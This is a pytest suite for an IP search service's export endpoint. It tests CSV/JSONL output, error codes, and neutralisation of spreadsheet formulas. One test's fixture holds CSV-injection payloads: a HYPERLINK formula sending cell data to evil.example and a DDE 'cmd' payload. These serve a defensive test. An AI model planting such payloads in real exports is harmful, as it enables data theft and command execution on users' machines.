"""``/api/v1/export``: bounded CSV and JSON Lines of what a query finds, 400 for a bad query."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from iphub.records import LocalizedText, Party
from iphub.store.embedded import EmbeddedStore
from search_api import spreadsheet
from search_api.main import create_app
from tests.api.conftest import settings_for
from tests.utils.factories import make_patent

PROBLEM = "application/problem+json"


def _export(client: TestClient, **params: object) -> tuple[str, str, str]:
    r = client.get("/api/v1/export", params=params)
    assert r.status_code == 200, r.text
    return r.headers["content-type"], r.headers["content-disposition"], r.text


def test_csv_of_a_query(client: TestClient) -> None:
    media, disposition, text = _export(client, kind="patent", q="锂电池", format="csv")
    assert media == "text/csv; charset=utf-8"
    assert disposition == 'attachment; filename="iphub-patents.csv"'
    assert text.startswith("\ufeffid,publication_number,")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [r["id"] for r in rows] == ["CN114000001A", "CN114000010A", "CN114000017A"]
    first = rows[0]
    assert first["title"] == "一种锂电池正极材料及其制备方法"
    assert first["applicants"] == "华南理工大学"
    assert first["districts"] == "天河区"
    assert first["ipc"] == "H01M 4/505; H01M 10/0525"


def test_jsonl_of_trademarks(client: TestClient) -> None:
    media, disposition, text = _export(
        client, kind="trademark", q="tm=云山 AND nc=30", format="jsonl"
    )
    assert media == "application/x-ndjson"
    assert disposition.endswith('filename="iphub-trademarks.jsonl"')
    records = [json.loads(line) for line in text.splitlines()]
    assert [r["id"] for r in records] == ["CN-TM-10000001", "CN-TM-10000010"]
    assert records[0]["mark_text"] == "云山"


def test_limit_bounds_the_export(client: TestClient) -> None:
    _, _, text = _export(client, kind="patent", format="jsonl", limit=5)
    assert len(text.splitlines()) == 5
    _, _, text = _export(client, kind="trademark")  # csv by default, whole set
    assert len(text.splitlines()) == 1 + 10


def test_limit_above_the_bound_is_422(client: TestClient) -> None:
    r = client.get("/api/v1/export", params={"kind": "patent", "limit": 10_001})
    assert r.status_code == 422
    assert r.headers["content-type"] == PROBLEM


def test_malformed_query_is_the_search_400(client: TestClient) -> None:
    r = client.get("/api/v1/export", params={"kind": "patent", "q": "ti=(电池"})
    assert r.status_code == 400
    assert r.headers["content-type"] == PROBLEM
    assert (r.json()["code"], r.json()["position"]) == ("unbalanced_parenthesis", 3)


@pytest.mark.parametrize("q", ["pd=9999", "pd=3000", "rd<0001"])
def test_a_date_out_of_range_is_the_search_400(client: TestClient, q: str) -> None:
    r = client.get("/api/v1/export", params={"kind": "trademark", "q": q})
    assert r.status_code == 400
    assert (r.json()["code"], r.json()["position"]) == ("bad_date", 3)
    assert "1700" in r.json()["message_zh"]


def test_field_not_for_kind_is_400(client: TestClient) -> None:
    r = client.get("/api/v1/export", params={"kind": "patent", "q": "nc=9", "format": "jsonl"})
    assert r.status_code == 400
    assert r.json()["code"] == "field_not_for_kind"


def test_an_export_holds_what_the_search_showed(client: TestClient) -> None:
    """A bare number is searched as a number, and Chinese words that find nothing as exact
    strings; the export of the same query must hold the same records, not none."""
    for q in ("CN114000001A", "池正极材", "锂电池"):
        shown = client.get("/api/v1/patents/search", params={"q": q, "size": 100}).json()
        _, _, text = _export(client, kind="patent", q=q, format="jsonl")
        exported = [json.loads(line)["id"] for line in text.splitlines()]
        assert exported == sorted(h["id"] for h in shown["hits"]), q
        assert exported, q


def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
    """A title or name from public data that starts like a formula is text in the spreadsheet
    (OWASP CSV injection: a leading single quote); the page's users open these in Excel."""
    hostile = make_patent(
        title=LocalizedText(text='=HYPERLINK("http://evil.example/?"&A1,"点击")'),
        applicants=[Party(name="@SUM(1+1)", key="@SUM(1+1)", district="天河区")],
        abstract=LocalizedText(text="-2+3+cmd|' /C calc'!A0"),
        ipc=["=1+1"],
    )
    store = EmbeddedStore(tmp_path / "iphub.db")
    store.upsert([hostile])
    store.refresh()
    app = create_app(settings_for(tmp_path / "iphub.db", rate_limit=0), store=store)
    with TestClient(app) as client:
        _, _, text = _export(client, kind="patent", format="csv")
    store.close()
    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert row["applicants"] == "'@SUM(1+1)"
    assert row["abstract"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["ipc"] == "'=1+1"
    assert row["title"] != hostile.title.text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 20 1234", "'+86 20 1234"),
        ("@x", "'@x"),
        ("\r=x", "'\r=x"),
        ("-68.5", "-68.5"),  # a number in a text column stays a number
        ("+3", "+3"),
        (-68.5, -68.5),
        (-3, -3),
        ("一种电池", "一种电池"),
        (None, None),
    ],
)
def test_one_cell_rule_for_every_csv(value: object, written: object) -> None:
    assert spreadsheet.cell(value) == written
